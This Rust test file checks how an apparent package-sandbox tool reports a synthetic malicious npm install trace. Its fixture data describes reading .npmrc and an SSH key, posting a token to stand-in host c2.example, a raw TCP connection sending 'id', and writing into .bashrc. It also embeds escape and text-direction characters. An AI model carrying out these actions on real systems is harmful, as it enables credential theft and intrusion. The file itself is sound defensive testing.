//! A detonation with everything in it, and what becomes of it.

use model::{Digest, Event, EventSource, Gap, GapKind, Phase, TRACE_VERSION, Trace, TraceDeed, TraceStep};
use wire::trace::{FORMATS, Run, TraceReport};

use crate::{plain, standard};

fn trace() -> Trace {
    let step = |name: &str, phase, exit| TraceStep {
        name: name.into(),
        phase,
        profile: "developer".into(),
        argv: vec!["sh".into(), "-c".into(), "node setup.js".into()],
        exit,
        output: String::new(),
        millis: 1250,
    };
    let text = String::from;
    let deeds = vec![
        (
            2,
            1,
            TraceDeed::Exec {
                path: text("/bin/sh"),
                argv: vec![text("sh"), text("-c"), text("node setup.js")],
                sha256: None,
                changed: vec![],
            },
        ),
        (2, 1, TraceDeed::Fork { child: 3 }),
        (
            3,
            2,
            TraceDeed::Exec {
                path: text("/usr/bin/node"),
                argv: vec![text("node"), text("setup\u{1b}[31m.js")],
                sha256: None,
                changed: vec![],
            },
        ),
        (3, 2, TraceDeed::Open { asked: text("/home/dev/.npmrc"), path: text("/home/dev/.npmrc"), write: false }),
        (3, 2, TraceDeed::Open { asked: text("/tmp/a"), path: text("/home/dev/.ssh/id"), write: false }),
        (3, 2, TraceDeed::Dns { name: text("c2.example"), record: text("A") }),
        (
            3,
            2,
            TraceDeed::Http {
                method: text("POST"),
                url: text("https://c2.example/\u{202e}x"),
                headers: vec![],
                size: 40,
                sha256: Some(Digest([1; 32])),
                head: text("token=npm_x"),
                status: 200,
                answered: None,
            },
        ),
        (
            3,
            2,
            TraceDeed::Raw {
                address: text("198.51.100.7:4444"),
                protocol: text("tcp"),
                sent: 3,
                head: text("id\n"),
                waited: true,
            },
        ),
        (
            3,
            2,
            TraceDeed::File {
                path: text("/home/dev/.bashrc"),
                size: 12,
                sha256: Digest([2; 32]),
                head: text("evil &"),
                vanished: false,
            },
        ),
        (3, 2, TraceDeed::Refused { call: text("io_uring_setup"), why: text("it would hide what is done") }),
        (3, 2, TraceDeed::Slept { millis: 120_000 }),
        (4, 3, TraceDeed::Unlink { path: text("/work/setup.js") }),
        (3, 2, TraceDeed::Exit { code: 3 }),
    ];
    let event = |(number, (process, parent, deed)): (u32, (u32, u32, TraceDeed))| Event {
        number,
        micros: u64::from(number) * 1500,
        step: 0,
        process,
        parent,
        source: EventSource::Tracer,
        tokens: matches!(deed, TraceDeed::Http { .. }).then(|| text("npm token:base64")).into_iter().collect(),
        ok: !matches!(deed, TraceDeed::Refused { .. }),
        causes: Vec::new(),
        deed,
    };
    Trace {
        version: TRACE_VERSION,
        steps: vec![step("postinstall", Phase::Install, Some(3)), step("require", Phase::Import, None)],
        events: (0..).zip(deeds).map(event).collect(),
        gaps: vec![Gap::new(GapKind::Budget, "", "The step \"require\" was stopped after 60 seconds.")],
    }
}

fn written(name: &str) -> String {
    let report = TraceReport {
        version: "0.0.0",
        made: "2026-01-31T23:59:59.000Z",
        runs: vec![Run {
            label: "pkg:npm/evil-helper@1.0.0".into(),
            trace: trace(),
            analysis: standard::clean(),
            notes: vec!["the registry marks this release: yanked".into()],
        }],
        failures: Vec::new(),
        notes: vec!["Landlock is missing on this machine.".into()],
    };
    let mut out = Vec::new();
    wire::trace::format(name).expect("listed").write(&report, &mut out).expect("writing to memory");
    String::from_utf8(out).expect("reports are UTF-8")
}

#[test]
fn the_terminal_shows_who_did_what() {
    let text = plain(&written("terminal"));
    insta::with_settings!({ omit_expression => true, snapshot_path => "snapshots", prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!("trace-terminal", text);
    });
}

#[test]
fn json_keeps_every_event() {
    let document: serde_json::Value = serde_json::from_str(&written("json")).expect("JSON");
    let schema = include_str!("../../../../docs/trace.schema.json");
    let schema = jsonschema::validator_for(&serde_json::from_str(schema).expect("a schema")).expect("a schema");
    let wrong: Vec<String> = schema.iter_errors(&document).map(|error| error.to_string()).collect();
    assert_eq!(wrong, Vec::<String>::new());
    let back: Trace = serde_json::from_value(document["runs"][0]["trace"].clone()).expect("a trace");
    assert_eq!(back, trace());
}

#[test]
fn no_format_lets_the_package_act() {
    for format in FORMATS {
        let text = plain(&written(format.name()));
        assert_eq!(text.chars().find(|&c| c != '\n' && wire::text::is_deceptive(c)), None, "{}", format.name());
    }
}
